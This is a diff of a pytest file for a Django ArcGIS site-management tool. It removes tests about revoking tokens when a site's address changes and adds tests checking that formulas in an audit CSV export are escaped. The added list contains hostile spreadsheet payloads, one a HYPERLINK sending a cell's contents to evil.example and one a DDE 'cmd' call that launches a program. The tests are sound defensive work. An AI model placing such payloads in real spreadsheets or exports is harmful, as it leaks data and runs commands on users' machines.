-def test_finding_1_addsite_on_an_existing_slug_revokes_the_tokens(simulator, site, operator, site_admin, connect):
-    connect(operator, site)
-    out = run("addsite", "main", "http://127.0.0.1:9/arcgis/admin", "--insecure", "--user", "sam")
-    assert "revoked 1 stored token(s)" in out
-    assert not site.tokens.exists() and Site.objects.get().connection_changed is not None
-    message = AuditEvent.objects.get(action="site_change").message
-    assert f"admin_url '{simulator.admin_url}' → 'http://127.0.0.1:9/arcgis/admin'" in message
-    assert message.endswith("Revoked 1 stored token: the address changed.")
-
-
-def test_finding_1_a_token_obtained_from_the_old_address_is_not_kept(
-    simulator, site, operator, site_admin, client_as, monkeypatch, capture
-):
-    """A connect under way while the address changes: the token it brings back is not stored."""
-    real = arcgis.AdminClient.generate_token
-
-    def then_the_address_changes(self, *args, **kwargs):
-        token = real(self, *args, **kwargs)
-        moved = Site.objects.get(pk=site.pk)
-        moved.admin_url = capture.admin_url
-        operations.change_site(site_admin, moved, operations.site_changes(moved))
-        return token
-
-    monkeypatch.setattr(arcgis.AdminClient, "generate_token", then_the_address_changes)
-    data = {**CREDENTIALS, "password": "siteadmin"}
-    response = client_as(operator).action(reverse("jobs:token", args=[site.slug]), data, htmx=False)
-    assert response.status_code == 200
-    assert "This site&#x27;s address changed while you connected: reconnect." in response.content.decode()
-    assert not site.tokens.exists()
-    assert AuditEvent.objects.get(action="connect").outcome == "failed"
-    # Pages now say why, and the new address hears nothing.
-    assert "This site's address changed: reconnect." in htmllib.unescape(
-        client_as(operator).get(reverse("jobs:overview")).content.decode()
-    )
-    assert capture.requests == []
-
-
 # --- finding 9: the Django admin showed more than the portal does -------------------------------------------
 
 
@@ -836,3 +804,37 @@ def test_finding_9_members_and_superusers_see_the_restricted_site_and_never_a_to
             for stored in tokens.values():
                 assert stored.token not in body
                 assert bytes(stored.ciphertext).decode() not in body
+
+
+# --- finding 10: CSV formula injection, the remaining cases -------------------------------------------------------
+
+FORMULAS = [
+    ' =HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "\t=1+1",
+    "\r=1+1",
+    "\t1",  # a leading tab or carriage return alone is enough
+    "\r1",
+    "  +1+1",
+    "\n-1+1",
+    "\u00a0@SUM(A1:A2)",
+    '=cmd|" /C calc"!A0',
+    "=1+1",
+]
+PLAIN = ["a=b", "hello -world", "  spaced", "", "1+1"]
+
+
+@pytest.mark.parametrize("value", FORMULAS)
+def test_finding_10_a_formula_after_whitespace_or_a_control_character_is_neutralised(
+    site, operator, viewer, client_as, value
+):
+    operations.record_site_change(operator, site, value)
+    response = client_as(viewer).get(reverse("jobs:audit_csv"))
+    body = b"".join(response.streaming_content).decode()
+    rows = list(csv.DictReader(io.StringIO(body, newline="")))
+    assert [row["message"] for row in rows] == ["'" + value]  # quotes, tabs and line breaks survive intact
+
+
+def test_finding_10_plain_text_is_left_alone():
+    assert [csv_cell(value) for value in PLAIN] == PLAIN
+    assert [csv_cell(value) for value in FORMULAS] == ["'" + value for value in FORMULAS]
+    assert csv_cell(None) is None and csv_cell(498) == 498
